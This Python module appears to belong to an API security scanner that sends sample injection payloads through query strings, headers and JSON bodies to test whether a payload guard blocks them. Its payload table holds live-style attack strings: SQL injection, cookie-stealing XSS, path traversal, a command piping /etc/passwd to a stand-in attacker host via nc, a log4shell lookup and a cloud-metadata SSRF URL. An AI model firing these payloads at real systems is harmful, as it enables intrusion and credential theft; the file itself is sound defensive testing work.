"""Attacks on services in arguments, fields and bodies."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import TYPE_CHECKING
from urllib.parse import quote

from lockgate.attacks.family import Attack
from lockgate.attacks.findings import Weakness

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

    from lockgate.attacks.candidate import Policy, Route
    from lockgate.attacks.findings import Finding
    from lockgate.attacks.target import Target
    from lockgate.attacks.wire import Exchange, Request

UNGUARDED = Weakness(
    "attack.injection.unguarded",
    "Attacks in requests reach the service",
    "medium",
    "possible",
    "API8:2023",
    "add `{ id: injections, kind: payload_guard }`; begin with `mode: shadow`, then write `mode: enforce`",
)
SSRF = Weakness(
    "attack.injection.ssrf",
    "Addresses of the inside reach the service",
    "medium",
    "possible",
    "API7:2023",
    "add `{ id: injections, kind: payload_guard }`, or name `ssrf` in its `classes`",
)
PAYLOADS = {
    "sql_injection": "1' OR '1'='1' UNION SELECT password FROM users--",
    "cross_site_scripting": "<script>alert(document.cookie)</script>",
    "path_traversal": "../../../../etc/passwd",
    "command_injection": "; cat /etc/passwd | nc attacker.test 80",
    "log4shell": "${jndi:ldap://attacker.test/a}",
    "ssrf": "http://169.254.169.254/latest/meta-data/",
}
"""One sample of each class that `payload_guard` knows."""


class Injection(Attack):
    """Samples of attack classes that no enforced policy stops."""

    name = "injection"
    about = "SQL, scripts, traversal, commands, log4shell and SSRF in query, body and fields"
    weaknesses = (UNGUARDED, SSRF)

    def run(self, target: Target) -> Iterator[Finding]:
        """Attack each route with each class, in each place where a value may stand."""
        for route in target.routes:
            if target.baseline(route) is None:
                continue
            for weakness, classes in ((UNGUARDED, [*PAYLOADS][:-1]), (SSRF, ["ssrf"])):
                hits = [hit for name in classes for hit in _through(target, route, name)]
                if hits:
                    detail = f"reached the service: {_by_place(what for what, _ in hits)}"
                    lax = next((p for p in route.of("payload_guard") if _looks(p) and not p.enforced), None)
                    yield target.finding(weakness, route, detail, hits, policy=lax)


def _looks(policy: Policy) -> bool:
    """Whether a guard looks for attacks, and not for rules of its own alone."""
    return policy.declared.get("classes") != "none"


def _by_place(hits: Iterable[str]) -> str:
    """Classes that got through in the same place, together."""
    places: dict[str, list[str]] = {}
    for hit in hits:
        name, _, place = hit.partition(" in ")
        places.setdefault(place, []).append(name)
    return "; ".join(f"{', '.join(names)} in {place}" for place, names in places.items())


def _through(target: Target, route: Route, name: str) -> Iterator[tuple[str, Exchange]]:
    """The first place in which a class reaches the service."""
    payload = PAYLOADS[name]
    for place, request in _places(target, route, payload):
        exchange = target.send(request)
        if any(
            _carries(payload, arrival.line, arrival.headers, arrival.body) for arrival in exchange.arrivals
        ):
            yield f"`{name}` in {place}", exchange
            return


def _places(target: Target, route: Route, payload: str) -> Iterator[tuple[str, Request]]:
    good = target.good(route)
    if good:
        yield "the query", good.query(f"q={quote(payload, safe='')}")
        yield "a field", good.plus(("X-Sandbox-Value", payload))
    method = route.body_method
    body = target.good(route, method) if method else None
    if body and (route.methods or route.enforces("payload_guard")):
        text = json.dumps({"value": payload}).encode()
        yield "a body", replace(body, body=text).having(("Content-Type", "application/json"))


def _carries(payload: str, line: str, headers: tuple[tuple[str, str], ...], body: bytes) -> bool:
    return (
        quote(payload, safe="") in line
        or any(payload in value for _, value in headers)
        or json.dumps(payload).encode() in body
    )
